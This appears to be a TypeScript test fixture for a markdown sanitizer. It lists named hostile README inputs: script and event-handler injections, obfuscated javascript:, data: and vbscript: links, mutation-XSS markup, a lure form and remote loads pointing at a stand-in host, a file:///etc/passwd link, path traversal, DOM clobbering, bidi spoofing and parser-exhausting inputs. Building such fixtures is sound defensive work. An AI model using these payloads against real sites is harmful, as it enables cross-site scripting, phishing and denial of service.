// READMEs that try to run code, load something from elsewhere, leave their place on the page, deceive, or freeze the page.

const elsewhere = 'https://elsewhere.test';
const run = 'globalThis.hit=1';

/** Each by what it tries. */
export const hostileReadmes: readonly (readonly [name: string, text: string])[] = [
  ['a script', `<script>${run}</script>\n\n<SCRIPT SRC=${elsewhere}/a.js></SCRIPT>`],
  ['the end of a script', `</script><script>${run}</script>`],
  ['a picture with a handler', `<img src=x onerror="${run}">\n\ntext <img src=x onerror=${run}> text`],
  ['an SVG', `<svg onload="${run}"><script>${run}</script></svg>`],
  [
    'markup that changes when parsed twice',
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${run}>">`,
  ],
  ['a javascript: link', `[click](javascript:${run}) <javascript:${run}> [click]( javascript:${run})`],
  ['a javascript: link in other letters', `[a](JaVaScRiPt:${run}) [b](java\tscript:${run}) [c](<java\nscript:${run}>)`],
  [
    'a javascript: link in entities',
    `[a](&#106;avascript:${run}) [b](javascript&colon;${run}) [c](&#x6A;&#x61;vascript:${run})`,
  ],
  ['a javascript: link in escapes', `[a](java\\script:${run}) [b](%6Aavascript:${run}) [c](\\javascript:${run})`],
  ['a javascript: reference', `[click][js] ![picture][js]\n\n[js]: javascript:${run}`],
  ['a data: link', `[click](data:text/html,<script>${run}</script>) ![a](data:image/svg+xml,<svg/onload=${run}>)`],
  ['a vbscript: link', `[click](vbscript:${run}) [click](VBSCRIPT:${run})`],
  [
    'other schemes',
    '[a](file:///etc/passwd) [b](blob:null) [c](about:blank) [d](view-source:x) [e](intent://x) [f](x-y:z)',
  ],
  ['a form', `<form action="${elsewhere}"><input name=key autofocus onfocus=${run}><button>Sign in</button></form>`],
  ['a frame', `<iframe src="${elsewhere}" srcdoc="<script>parent.hit=1</script>"></iframe>`],
  ['an object', `<object data="${elsewhere}/a.swf"></object><embed src="${elsewhere}/a.swf">`],
  [
    'a style',
    `<style>body{display:none;background:url(${elsewhere})}</style><p style="position:fixed;inset:0">over</p>`,
  ],
  ['a style sheet', `<link rel=stylesheet href=${elsewhere}/a.css>`],
  ['a refresh', `<meta http-equiv=refresh content="0;url=${elsewhere}">`],
  ['a base', `<base href="${elsewhere}/">\n\n[a](a.md) ![a](a.png)`],
  [
    'pictures from elsewhere',
    `![a](${elsewhere}/a.png) ![b](HTTP://elsewhere.test/b.gif "t") ![c][c]\n\n[c]: ${elsewhere}/c.webp`,
  ],
  [
    'a protocol-relative address',
    '[a](//elsewhere.test/a) ![a](//elsewhere.test/a.png) [b](/\\elsewhere.test) ![b](\\\\elsewhere.test\\b.png)',
  ],
  [
    'pictures outside of the archive',
    '![a](../../../v1/session) ![b](..%2f..%2fsession.png) ![c](docs/%2e%2e/%2e%2e/%2e%2e/c.png)',
  ],
  ['a picture that names a route', '![a](/v1/session.png) ![b](?path=../a.png) ![c](a.png?path=b.png&kind=x#y.png)'],
  ['a picture with a handler in its text', `![" onerror="${run}](a.png '" onload="${run}')`],
  ['entities', `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62; &#0; &#xD800; &bogus;`],
  [
    'bare addresses',
    `javascript:${run} ${elsewhere}/<script> https://elsewhere.test"onclick="${run} www.elsewhere.test`,
  ],
  [
    'an address that looks like another',
    '[https://github.com](https://github.com@elsewhere.test/) <https://а-pple.test>',
  ],
  ['a link in a link', `[![a](${elsewhere}/a.png) [b](${elsewhere})](javascript:${run})`],
  ['footnotes with the same name', '[^1] [^1] [^__proto__]\n\n[^1]: one\n\n[^1]: two\n\n[^__proto__]: three'],
  [
    'headings with names of properties',
    '# __proto__\n# constructor\n# root\n# root\n# content\n# toString\n\n[a](#__proto__)',
  ],
  ['HTML with IDs and names', '<a id=root name=getElementById></a><form id=location><input name=cookie></form>'],
  [
    'languages of code',
    `\`\`\`__proto__\na\n\`\`\`\n\n\`\`\`"onclick="${run}\nb\n\`\`\`\n\n\`\`\`python\n</code><img src=x onerror=${run}>\n\`\`\``,
  ],
  ['characters that turn text around', 'invoice\u202egnp.exe\u2066 [a\u202eb](c.md) `d\u202ee`\n\n```\nf\u202eg\n```'],
  ['characters without a width', 'a\u200bb\u200c\u2060c\ufeff\u00ad [\u200b](x.md)'],
  ['control characters', 'a\u0000b\u0008c\u001b[31mred\u001b[0m \u0085 \u2028'],
  ['an unclosed comment and an unclosed block', `<!-- ${run}\n\n\`\`\`js\n${run}`],
  ['a processing instruction and CDATA', `<?xml version="1.0"?><!DOCTYPE html><![CDATA[<script>${run}</script>]]>`],
  [
    'a template and a custom element',
    `<template><script>${run}</script></template><x-a onclick=${run}>{{${run}}} \${${run}}</x-a>`,
  ],
  [
    'a table of markup',
    `| <script>${run}</script> | b |\n|:-:|---|\n| <img src=x onerror=${run}> | [a](javascript:${run}) |`,
  ],
  ['a wide table', `|${'a|'.repeat(300)}\n|${'-|'.repeat(300)}\n|${'b|'.repeat(300)}`],
  ['a huge table', `|a|b|\n|-|-|\n${'|1|2|\n'.repeat(40_000)}`],
  ['a long word', `${'x'.repeat(50_000)} [${'y'.repeat(5000)}](${'z'.repeat(5000)})`],
  ['10,000 quotes', `${'>'.repeat(10_000)} a`],
  ['10,000 lists', `${'- '.repeat(10_000)}a`],
  ['10,000 brackets', `${'['.repeat(10_000)}a${']'.repeat(10_000)}`],
  ['10,000 parts in parts', `${'*a **b '.repeat(10_000)}`],
  ['5,000 headings with the same name', '# a\n'.repeat(5000)],
  ['5,000 blocks of code', '```python\nx = """\n```\n'.repeat(3000)],
  ['half a million stars', '*'.repeat(500_000)],
  ['a quarter of a million brackets', '['.repeat(250_000)],
  ['pictures in pictures', '!['.repeat(120_000)],
];
